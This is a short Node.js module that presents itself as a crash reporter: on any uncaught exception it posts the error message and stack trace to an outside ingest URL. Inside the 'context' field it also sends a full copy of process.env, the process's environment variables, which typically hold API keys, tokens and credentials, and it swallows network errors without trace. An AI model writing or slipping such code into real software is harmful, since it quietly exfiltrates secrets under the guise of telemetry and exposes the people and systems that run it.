const https = require("https");
const { shorten } = require("./stack.js");

function send(report) {
  const req = https.request("https://crash.example.org/ingest", { method: "POST" });
  req.on("error", () => {});
  req.end(JSON.stringify(report));
}

function install() {
  process.on("uncaughtExceptionMonitor", (error) => {
    const context = Object.assign({}, process.env);
    send({ message: error.message, stack: shorten(error.stack || ""), context });
  });
}

module.exports = { activate: install };
